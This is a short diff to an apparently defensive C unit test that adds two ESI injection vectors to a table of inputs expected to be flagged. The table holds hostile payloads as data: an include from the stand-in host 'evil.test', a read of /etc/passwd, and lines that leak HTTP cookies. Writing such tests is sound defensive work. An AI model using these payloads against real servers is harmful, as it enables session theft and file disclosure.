@@ -26,6 +26,9 @@ static void test_xxe_relatives(void **state)
 		{ "<esi:include src=\"//evil.test/x\"/>", X },
 		{ "<esi:include src=\"file:///etc/passwd\"/>", X },
 		{ "<esi:vars>$(HTTP_COOKIE)</esi:vars>", X },
+		/* ESI processing of what is fetched, whatever its origin */
+		{ "<esi:eval src=\"/api/echo?x=1\" dca=\"none\"/>", X },
+		{ "<esi:include src=\"/fragment\" dca=\"esi\"/>", X },
 		{ "<esi:vars>$(HTTP_COOKIE{'JSESSIONID'})</esi:vars>", X },
 		{ "x<esi:include src=\"/a?c=$(HTTP_COOKIE)\"/>", X },
 		{ "<esi:vars>hi</esi:vars>", X },
